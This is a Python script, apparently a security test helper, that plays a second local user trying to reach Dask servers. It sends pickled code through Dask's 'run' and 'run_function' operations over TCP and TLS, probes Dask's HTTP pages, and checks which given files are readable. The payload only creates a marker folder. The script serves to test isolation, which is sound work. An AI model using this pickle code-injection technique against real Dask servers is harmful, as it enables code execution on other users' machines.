"""The attempts of another user of the machine: `python other_user.py UID < TASK`, started by root.

TASK is JSON: `ports` to send code to, the way Dask does, in plain TCP and in TLS with a certificate of their
own; `markers`, a folder in which the code would make a folder `PORT`; `files` to read. Prints JSON: the ports
that ran the code, those that answered HTTP requests, the files that were read.
"""

import asyncio
import json
import logging
import os
import pickle
import sys
import tempfile
from collections.abc import Iterable
from contextlib import suppress
from pathlib import Path
from typing import Any

from distributed import Security
from distributed.comm import connect
from distributed.core import Server

#: Seconds for one attempt: a server that expects another protocol may never answer.
PATIENCE = 10.0
#: What Dask's servers call "run this function".
OPERATIONS = ("run", "run_function")
#: Pages of Dask's HTTP servers.
PAGES = ("/health", "/metrics", "/status", "/info/main/workers.html", "/json/counts.json")


class Code:
    """Makes a folder where it is unpickled."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> Any:
        return os.mkdir, (self.folder,)


async def send(address: str, operation: str, code: bytes, **tls: Any) -> None:
    comm = await connect(address, timeout=PATIENCE, **tls)
    try:
        await comm.write({"op": operation, "function": code, "reply": True})
        await comm.read()
    finally:
        comm.abort()


async def answers(port: int, page: str) -> bool:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(f"GET {page} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        return (await reader.readline()).split()[1:2] == [b"200"]
    finally:
        writer.close()


async def attempt(action: Any) -> bool:
    with suppress(Exception):
        return bool(await asyncio.wait_for(action, PATIENCE))
    return False


async def attack(ports: Iterable[int], markers: Path) -> dict[str, list[int]]:
    own = Security.temporary().get_connection_args("client")
    attempts = []
    for port in ports:
        code = pickle.dumps(Code(str(markers / str(port))))
        for operation in OPERATIONS:
            attempts.append(attempt(send(f"tcp://127.0.0.1:{port}", operation, code)))
            attempts.append(attempt(send(f"tls://127.0.0.1:{port}", operation, code, **own)))
    await asyncio.gather(*attempts)
    pages = [(port, await attempt(answers(port, page))) for port in ports for page in PAGES]
    return {
        "ran": [port for port in ports if (markers / str(port)).is_dir()],
        "answered": sorted({port for port, answered in pages if answered}),
    }


async def rehearse() -> None:
    """Attack a server of this process: imports all that an attack needs from where root alone may read it."""
    server = Server({"run_function": lambda function: None})  # type: ignore[no-untyped-call]
    await server.listen("tcp://127.0.0.1:0")
    try:
        with tempfile.TemporaryDirectory() as folder:
            await attack([server.port], Path(folder))
    finally:
        await server.close()


def readable(file: str) -> bool:
    try:
        with Path(file).open("rb") as opened:
            opened.read(1)
    except OSError:
        return False
    return True


def main() -> None:
    uid, task = int(sys.argv[1]), json.load(sys.stdin)
    logging.disable()  # the server logs attempts to connect
    asyncio.run(rehearse())  # a clone may be in a folder that its owner alone may enter
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    seen = asyncio.run(attack(task["ports"], Path(task["markers"])))
    sys.stdout.write(json.dumps(seen | {"read": [file for file in task["files"] if readable(file)]}))


if __name__ == "__main__":
    main()
